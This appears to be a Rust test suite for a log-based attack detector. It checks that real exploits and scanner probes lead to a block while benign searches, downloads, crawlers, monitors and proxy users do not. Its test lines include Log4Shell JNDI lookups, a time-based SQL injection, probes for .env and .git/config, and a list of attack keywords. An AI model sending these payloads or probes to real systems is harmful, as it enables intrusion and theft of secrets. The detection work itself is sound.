//! What ordinary visitors and attackers leave in access logs, and who of them is blocked for it.

use sentinel_parsers::parse_line;

use super::*;

const BROWSER: &str = "Mozilla/5.0 Firefox/130.0";
const ELSEWHERE: &str = "https://forum.example/thread/7";

/// What these lines, at these seconds, make of their address.
fn replayed(lines: impl IntoIterator<Item = (i64, String)>) -> Option<Detection> {
    let mut detector = Detector::new(settings());
    lines.into_iter().find_map(|(second, line)| {
        let (_, event) = parse_line(None, line.as_bytes())?;
        detector.see(&Hit::new(&event, at(second)))
    })
}

fn asked(method: &str, target: &str, status: u16, referrer: &str) -> String {
    format!(
        "203.0.113.9 - - [23/Nov/2026:02:00:01 +0000] \"{method} {target} HTTP/1.1\" {status} 7 \"{referrer}\" \"{BROWSER}\""
    )
}

fn got(target: &str, status: u16) -> String {
    asked("GET", target, status, "-")
}

/// The same lines, every so many seconds.
fn every(seconds: i64, lines: impl IntoIterator<Item = String>) -> Option<Detection> {
    replayed((0..).map(|nth| nth * seconds).zip(lines))
}

#[test]
fn a_page_that_embeds_an_attack_shuts_none_of_its_visitors_out() {
    for (target, referrer) in [
        ("/logo.png", "https://evil.example/p?${jndi:"),
        ("/boaform/admin/x.png", ELSEWHERE),
        ("/?q=${jndi:ldap://a.example}", ELSEWHERE),
        ("/?q=allow_url_include", ELSEWHERE),
        ("/wp-login.php", ELSEWHERE),
    ] {
        let visits = (0..50).map(|_| asked("GET", target, 404, referrer));
        assert_eq!(every(10, visits), None, "{target} on {referrer}");
    }
}

#[test]
fn an_exploit_of_ones_own_is_enough_and_so_are_five_different_probes() {
    let exploit = got("/?q=${jndi:ldap://a.example}", 200);
    assert!(every(1, [exploit]).is_some_and(|found| found.is_provable()));
    let probes = ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/cgi-bin/luci"];
    assert!(every(60, probes.map(|page| got(page, 404))).is_some());
}

#[test]
fn different_payloads_for_one_page_are_different_attacks() {
    let payloads = (0..3).map(|nth| got(&format!("/?id={nth}+and+sleep({nth})"), 200));
    assert!(every(1, payloads).is_some());
}

#[test]
fn who_searches_for_words_of_attacks_is_not_blocked() {
    for word in
        ["powershell", "information_schema", "sleep(", "php://", "cmd.exe", "wget+http", "invokefunction"]
    {
        let searches = (0..50).map(|nth| got(&format!("/suggest?q={word}&n={nth}"), 200));
        assert_eq!(every(1, searches), None, "{word}");
    }
    let downloads =
        (0..50).map(|nth| got(&format!("/debian/pool/main/b/busybox/busybox_1.{nth}_amd64.deb"), 200));
    assert_eq!(every(1, downloads), None);
    let clones = (0..50).map(|nth| got(&format!("/p{nth}/.git/info/refs?service=git-upload-pack"), 200));
    assert_eq!(every(1, clones), None);
}

#[test]
fn a_search_engine_on_a_site_that_has_moved_is_not_blocked() {
    for ending in ["php", "aspx", "jsp", "cgi", "html"] {
        let visits = (0..500).map(|nth| got(&format!("/old/{nth}.{ending}"), 404));
        assert_eq!(every(30, visits), None, "{ending}");
    }
    let comments = (0..50).map(|nth| got(&format!("/wp-login.php?redirect_to=/post/{nth}"), 404));
    assert_eq!(every(30, comments), None);
}

#[test]
fn clients_whose_session_has_ended_and_monitors_are_not_blocked() {
    for (method, target, status) in [
        ("POST", "/owa/service.svc", 440),
        ("GET", "/cgi-bin/icinga/status.cgi", 401),
        ("GET", "/webmail/api/poll", 401),
        ("POST", "/api/login/refresh", 401),
        ("GET", "/actuator/health", 404),
    ] {
        let polls = (0..200).map(|_| asked(method, target, status, "-"));
        assert_eq!(every(10, polls), None, "{target}");
    }
}

#[test]
fn users_of_a_forward_proxy_are_not_blocked_for_the_sites_it_forbids_or_cannot_reach() {
    let denied = |nth: i64| {
        format!(
            "1795399201.123      4 203.0.113.9 TCP_DENIED/403 4099 CONNECT ads{nth}.example:443 - HIER_NONE/- text/html"
        )
    };
    assert_eq!(every(5, (0..150).map(denied)), None);
    for status in [403, 502, 503] {
        let tunnels = (0..150).map(|nth| asked("CONNECT", &format!("dead{nth}.example:443"), status, "-"));
        assert_eq!(every(5, tunnels), None, "{status}");
    }
}
